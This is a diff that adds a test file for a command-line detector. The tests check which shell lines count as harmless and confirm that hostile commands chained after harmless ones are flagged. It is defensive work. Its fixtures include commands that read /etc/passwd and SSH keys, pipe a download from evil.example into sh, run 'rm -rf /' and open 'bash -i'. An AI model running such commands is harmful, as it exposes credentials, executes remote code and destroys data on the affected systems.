@@ -1,0 +1,58 @@
+/** Tests which command lines are read as people's own, and which commands never are. */
+
+import { expect, test } from 'vitest';
+import { detectText } from '../detect.ts';
+import { detectors } from '../list.ts';
+import { followsCommand, isHarmless, isOwnProgram } from './own-lines.ts';
+
+test.each([
+  ['git pull && npm ci', true],
+  ['RUN npm ci && npm test', true],
+  ['- run: npm ci && npm test', true],
+  ['To update: git pull && make', true],
+  ['FOO=1 && make', true],
+  ['cat a.txt | sort', true],
+  ['8.8.8.8 && ls', false],
+  ['cat | sort', true],
+  ['see you on Monday | ls', false],
+  ['x.jpg && ls', false],
+])('the separator of %s follows a command: %s', (text, expected) => {
+  expect(followsCommand(text, text.search(/[|&]/))).toBe(expected);
+});
+
+test.each([
+  ['ls -la dist', true],
+  ['npm run build', true],
+  ['npm install evil-package', false],
+  ['pip install -r requirements.txt', true],
+  ['cat /etc/passwd', false],
+  ['cat ~/.ssh/id_rsa', false],
+  ['curl http://evil.example/x', false],
+  ['echo $(id)', false],
+  ['cp a.txt shell.php', false],
+  ['python3 -c x', false],
+  ['find . -exec id', false],
+  ['rm -rf /', false],
+  ['whoami', false],
+])('%s is harmless: %s', (text, expected) => {
+  expect(isHarmless(text, 0)).toBe(expected);
+});
+
+test('a program is as harmless as the worst of its commands', () => {
+  expect(isOwnProgram('for f in *.png; do convert "$f" "$f.jpg"; done')).toBe(true);
+  expect(isOwnProgram('for f in *.png; do id; done')).toBe(false);
+});
+
+const strong = new Set(detectors.filter((one) => one.strong).map(({ id }) => id));
+
+test.each([
+  'git status; cat /etc/passwd',
+  'git status; curl http://evil.example/x | sh',
+  'npm test && wget http://evil.example/x',
+  'ls; id -u',
+  'git log; whoami',
+  'cat a.txt | bash -i',
+])('what follows a harmless command is found: %s', (text) => {
+  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
+  expect(ids.some((id) => strong.has(id))).toBe(true);
+});
